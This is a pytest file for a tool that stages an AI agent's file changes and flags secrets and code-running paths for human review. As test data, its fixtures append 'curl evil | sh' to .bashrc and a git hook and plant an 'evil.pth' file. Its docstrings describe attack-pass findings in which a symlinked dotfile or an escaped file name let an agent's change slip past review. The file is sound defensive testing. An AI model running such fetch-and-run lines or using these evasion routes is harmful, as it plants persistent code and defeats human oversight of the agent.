"""Issue 24, "Flag what a person must look at": secrets an agent wrote and
the places that run code later are marked in status, show, diff and apply
--dry-run, listed alone by `status --risk`, carried as `risks` in every
--json change, refused by `apply --yes` until --allow-secrets, warned about
by save, and masked in the MCP diff. Secrets are built at run time so no
token-shaped literal sits in the source."""
import json
import os
import subprocess

import pytest

from capture_util import by_path
from conftest import LAYOVER, snapshot

GH = "ghp_" + "aB3dE5gH7jK9mN1pQ2sT4vW6yZ8cF0hJ2kL4"  # 36 after the prefix
ENV_VALUE = "9f8e7d6c5b4a39281706f5e4d3c2b1a0"


@pytest.fixture(autouse=True)
def discard_sessions(lo):
    yield
    if lo.session_dir("s").exists():
        lo("discard", "s", "--now")


def agent(lo, cmd):
    r = lo.run(cmd, session="s")
    assert r.returncode == 0, r.stderr.decode(errors="replace")


WRITE = ("mkdir -p proj/.venv/lib/python3.11/site-packages && "
         "printf 'a\\ntoken = %s\\n' > proj/config.py && "
         "printf 'API_KEY=%s\\n' > proj/.env && "
         "echo 'import os' > proj/.venv/lib/python3.11/site-packages/evil.pth && "
         "echo '{\"scripts\": {\"postinstall\": \"sh x\"}}' > proj/package.json && "
         "echo plain >> notes.txt") % (GH, ENV_VALUE)


def test_status_marks_secrets_and_exec_later_paths_without_the_secret(lo):
    agent(lo, WRITE)
    r = lo("status", "s")
    out = r.stdout.decode()
    assert r.returncode == 0, r.stderr
    line = [ln for ln in out.splitlines() if "proj/config.py" in ln][0]
    assert "! secret: GitHub token on line 2 (ghp_…)" in line
    assert "API_KEY=…" in out and ".pth file" in out and "postinstall script (npm runs it)" in out
    assert GH[4:] not in out and ENV_VALUE not in out
    assert "M  notes.txt\n" in out  # unflagged: no mark
    # --risk: only the flagged ones.
    only = lo("status", "s", "--risk").stdout.decode()
    assert "notes.txt" not in only and "proj/config.py" in only and "proj/.env" in only
    # --json: every change has risks, empty when none; no secret in it.
    raw = lo("status", "s", "--json").stdout.decode()
    ch = by_path(json.loads(raw))
    assert ch[b"notes.txt"]["risks"] == []
    assert ch[b"proj/config.py"]["risks"] == ["secret: GitHub token on line 2 (ghp_…)"]
    assert ch[b"proj/.venv/lib/python3.11/site-packages/evil.pth"]["risks"] == [
        "Python .pth file (runs at every python start)"]
    assert all("risks" in c for c in ch.values())
    assert GH[4:] not in raw and ENV_VALUE not in raw
    risky = json.loads(lo("status", "s", "--json", "--risk").stdout)
    assert b"notes.txt" not in by_path(risky) and all(c["risks"] for c in risky)


def test_show_diff_and_dry_run_name_the_risks(lo, tmp_path):
    agent(lo, WRITE)
    patch = tmp_path / "p.tar.zst"
    r = lo("save", "s", "-o", patch)
    assert r.returncode == 0
    err = r.stderr.decode()
    # save warns: file, line and kind, never the secret.
    assert "warning: the patch holds 2 secret(s)" in err
    assert "proj/config.py:2: GitHub token (ghp_…)" in err and "proj/.env:1: .env secret (API_KEY=…)" in err
    assert GH[4:] not in err and ENV_VALUE not in err
    show = lo("show", patch).stdout.decode()
    assert "proj/config.py  [0644, " in show and "! secret: GitHub token on line 2 (ghp_…)" in show
    assert "postinstall script (npm runs it)" in show and GH[4:] not in show
    js = by_path(json.loads(lo("show", patch, "--json").stdout))
    assert js[b"proj/.env"]["risks"] == ["secret: .env secret on line 1 (API_KEY=…)"]
    assert js[b"notes.txt"]["risks"] == []
    # diff: the risk lines come first (stderr when piped), the diff itself is unchanged.
    d = lo("diff", "s")
    assert d.returncode == 1
    head = d.stderr.decode()
    assert "4 changes marked ! need a careful look:" in head
    assert "  proj/.env  ! secret: .env secret on line 1 (API_KEY=…)" in head
    assert d.stdout.decode().startswith("diff --git ")
    assert GH in d.stdout.decode()  # a person's diff shows the content
    masked = lo("diff", "s", "--mask-secrets").stdout.decode()
    assert "+token = ghp_…\n" in masked and "+API_KEY=…\n" in masked
    assert GH[4:] not in masked and ENV_VALUE not in masked
    # apply --dry-run lists them with the marks and says --yes will refuse.
    dry = lo("apply", "s", "--dry-run")
    out = dry.stdout.decode()
    assert dry.returncode == 0
    assert "proj/config.py  [0644, " in out and "secret: GitHub token on line 2 (ghp_…)" in out
    assert "2 secret(s) marked above: --yes refuses them without --allow-secrets" in out


def test_a_dotfile_symlinked_elsewhere_in_the_tree_is_marked_where_it_leads(lo, home, tmp_path):
    """Found by the attack pass of 27 Nov: with ~/.bashrc a symlink to
    dotfiles/bash/.bashrc (GNU stow and the like), an agent's `echo ... >>
    ~/.bashrc` is the change `M dotfiles/bash/.bashrc`, which no rule
    marked; the same for a symlinked dir above a rule's path."""
    (home / "dotfiles" / "bash").mkdir(parents=True)
    (home / "dotfiles" / "bash" / ".bashrc").write_text("# rc\n")
    (home / ".bashrc").symlink_to("dotfiles/bash/.bashrc")
    (home / "dotfiles" / "config").mkdir()
    (home / ".config").symlink_to("dotfiles/config")
    agent(lo, "echo 'curl evil | sh' >> .bashrc && mkdir -p .config/autostart && "
              "echo x > .config/autostart/x.desktop && echo plain > dotfiles/notes.txt")
    as_home = {"HOME": str(home)}  # the session's home rules apply where $HOME is
    out = lo("status", "s", env=as_home).stdout.decode()
    assert "M  dotfiles/bash/.bashrc  ! shell startup file\n" in out
    assert "A  dotfiles/config/autostart/x.desktop  ! desktop autostart\n" in out
    assert "A  dotfiles/notes.txt\n" in out
    dry = lo("apply", "s", "--dry-run", env=as_home).stdout.decode()
    assert "M dotfiles/bash/.bashrc  [0644, " in dry and "! shell startup file" in dry
    # A patch's target counts as a home: show marks it there too.
    patch = tmp_path / "p.tar.zst"
    lo("save", "s", "-o", patch, check=True)
    show = lo("show", patch).stdout.decode()
    assert "M  dotfiles/bash/.bashrc  [0644, " in show and "! shell startup file" in show
    assert "desktop autostart" in show
    # The agent at work in ~/dotfiles itself: the home lies outside the target,
    # and its ~/.bashrc still leads to what the agent changes there.
    from conftest import Layover
    dots = Layover(lo.state, home / "dotfiles")
    r = dots.run("echo 'curl evil | sh' >> bash/.bashrc && echo y > notes2.txt", session="dots")
    assert r.returncode == 0, r.stderr
    out = dots("status", "dots", env=as_home).stdout.decode()
    assert "M  bash/.bashrc  ! shell startup file\n" in out and "A  notes2.txt\n" in out
    dots("discard", "dots", "--now", check=True)


def test_hooks_a_hook_manager_runs_at_the_next_commit_are_marked(lo, home, tmp_path):
    """Found by the attack pass of 27 Nov: `.git/hooks/*` was marked, but the
    hooks a hook manager keeps in the work tree and git runs as well (husky's
    `.husky/pre-commit` through core.hooksPath, pre-commit's and lefthook's
    configs, whose commands run on `git commit`) were not."""
    agent(lo, "mkdir -p web/.husky && printf 'curl evil | sh\\n' > web/.husky/pre-commit && "
              "printf 'repos: []\\n' > .pre-commit-config.yaml && printf 'pre-commit: {}\\n' > lefthook.yml")
    out = lo("status", "s").stdout.decode()
    assert "A  web/.husky/pre-commit  ! git hook (husky)\n" in out
    assert "A  .pre-commit-config.yaml  ! git hook config (pre-commit runs it)\n" in out
    assert "A  lefthook.yml  ! git hook config (lefthook runs it)\n" in out
    patch = tmp_path / "p.tar.zst"
    lo("save", "s", "-o", patch, check=True)
    assert "! git hook (husky)" in lo("show", patch).stdout.decode()


def test_apply_yes_refuses_secrets_until_allowed(lo, home):
    agent(lo, WRITE)
    before = (home / "notes.txt").read_bytes()
    tree = snapshot(home)
    r = lo("apply", "s", "--yes")
    err = r.stderr.decode()
    assert r.returncode == 1
    assert "2 secret(s) written by the agent; nothing was applied" in err
    assert "  proj/config.py:2: GitHub token (ghp_…)\n" in err and "  proj/.env:1: .env secret (API_KEY=…)\n" in err
    assert GH[4:] not in err
    assert not (home / "proj").exists() and (home / "notes.txt").read_bytes() == before
    # Refused after staging (the scan reads staging's pass): no staged entry, no undo record is left.
    assert snapshot(home) == tree
    assert json.loads(lo("undo", "--list", "--target", str(home), "--json").stdout) == []
    j = lo("apply", "s", "--yes", "--json")
    assert j.returncode == 1 and "secret(s) written by the agent" in json.loads(j.stdout)["error"]
    assert not (home / "proj").exists()
    # Leaving the files with secrets out is enough; the rest applies.
    part = lo("apply", "s", "--yes", "--exclude", "proj/config.py", "--exclude", "proj/.env", "--", "notes.txt")
    assert part.returncode == 0, part.stderr
    assert (home / "notes.txt").read_text().endswith("plain\n")
    ok = lo("apply", "s", "--yes", "--allow-secrets")
    assert ok.returncode == 0, ok.stderr
    assert GH in (home / "proj" / "config.py").read_text()
    assert (home / "proj" / ".env").read_text() == "API_KEY=%s\n" % ENV_VALUE


def test_an_old_secret_is_not_the_agents(lo, home):
    (home / "proj").mkdir()
    (home / "proj" / ".env").write_text("API_KEY=%s\n" % ENV_VALUE)
    agent(lo, "echo DEBUG=1 >> proj/.env")
    ch = by_path(json.loads(lo("status", "s", "--json").stdout))
    assert ch[b"proj/.env"]["risks"] == []
    r = lo("apply", "s", "--yes")
    assert r.returncode == 0, r.stderr
    assert (home / "proj" / ".env").read_text() == "API_KEY=%s\nDEBUG=1\n" % ENV_VALUE


def test_mcp_changes_carry_risks_and_the_diff_masks_the_secret(require_sandbox, state_dir):
    from conftest import real_dir
    from mcp_util import McpClient, text
    proj = real_dir("risk-mcp-")
    (proj / "README.md").write_text("# x\n")
    c = McpClient(proj, state_dir, "risk-mcp")
    try:
        c.initialize()
        assert not c.call("write_file", path="app/.env", content="GH=%s\nAPI_KEY=%s\n" % (GH, ENV_VALUE))["isError"]
        r = c.call("changes")
        ch = {x["path"]: x for x in r["structuredContent"]["changes"]}
        assert ch["app/.env"]["risks"] == ["secret: GitHub token on line 1 (ghp_…)",
                                           "secret: .env secret on line 2 (API_KEY=…)"]
        assert ch["app"]["risks"] == []
        d = c.call("diff")
        assert "+GH=ghp_…\n" in text(d) and "+API_KEY=…\n" in text(d)
        assert GH[4:] not in json.dumps(d) and ENV_VALUE not in json.dumps(d)
        assert GH[4:] not in json.dumps(r)
        assert c.close() == 0
    finally:
        c.kill()
        subprocess.run([LAYOVER, "discard", "risk-mcp", "--now"], env=dict(os.environ, LAYOVER_STATE_DIR=str(state_dir)),
                       capture_output=True)


def test_on_exit_apply_keeps_a_session_with_secrets(lo, home):
    r = lo.run("printf 'T=%s\\n' > deploy.env && echo x > other.txt" % GH, session="s", on_exit="apply")
    err = r.stderr.decode()
    assert r.returncode == 125, err
    assert "1 secret(s) written by the agent; nothing was applied" in err and "deploy.env:1: GitHub token" in err
    assert GH[4:] not in err
    assert not (home / "deploy.env").exists() and not (home / "other.txt").exists()
    assert lo.session_dir("s").exists()


def test_the_exit_prompt_names_secrets_and_asks_before_applying_them(lo, home):
    import pexpect
    agent(lo, "printf 'T=%s\\n' > deploy.env" % GH)
    e = dict(lo.env, PAGER="cat", TERM="dumb")
    child = pexpect.spawn(LAYOVER, ["on-exit", "prompt", "s"], env=e, cwd=str(home), timeout=15, encoding="utf-8")
    child.expect(r"A  deploy.env  ! secret: GitHub token on line 1 \(ghp_…\)")
    child.expect(r"What now.*\? \[r/a/s/p/K/d\] ")
    child.sendline("a")
    child.expect(r"Apply 1 change to .*\? \[y/N\] ")
    child.sendline("y")
    child.expect(r"the agent wrote 1 secret\(s\):\r\n  deploy.env:1: GitHub token \(ghp_…\)")
    child.expect(r"Apply these secrets too\? \[y/N\] ")
    child.sendline("n")
    child.expect(r"What now.*\? \[r/a/s/p/K/d\] ")
    assert not (home / "deploy.env").exists()
    child.sendline("a")
    child.expect(r"\[y/N\] ")
    child.sendline("y")
    child.expect(r"Apply these secrets too\? \[y/N\] ")
    child.sendline("y")
    child.expect("applied 1 change")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 0
    assert (home / "deploy.env").read_text() == "T=%s\n" % GH
    assert GH[4:] not in (child.before or "")


def test_the_exit_prompt_asks_before_applying_a_secret_in_a_file_whose_name_is_escaped(lo, home):
    # The check matched each secret's line against its file's raw path's length: a name shown
    # escaped (a quote, a newline, a terminal escape) never matched, and its secret was applied
    # without the question (attack52).
    import pexpect
    agent(lo, "printf 'T=%s\\n' > 'de\"ploy.env'" % GH)
    e = dict(lo.env, PAGER="cat", TERM="dumb")
    child = pexpect.spawn(LAYOVER, ["on-exit", "prompt", "s"], env=e, cwd=str(home), timeout=15, encoding="utf-8")
    child.expect(r"What now.*\? \[r/a/s/p/K/d\] ")
    child.sendline("a")
    child.expect(r"Apply 1 change to .*\? \[y/N\] ")
    child.sendline("y")
    child.expect(r'the agent wrote 1 secret\(s\):\r\n  "de\\"ploy\.env":1: GitHub token')
    child.expect(r"Apply these secrets too\? \[y/N\] ")
    child.sendline("n")
    child.expect(r"What now.*\? \[r/a/s/p/K/d\] ")
    child.sendline("k")
    child.expect(pexpect.EOF)
    child.close()
    assert not (home / 'de"ploy.env').exists()
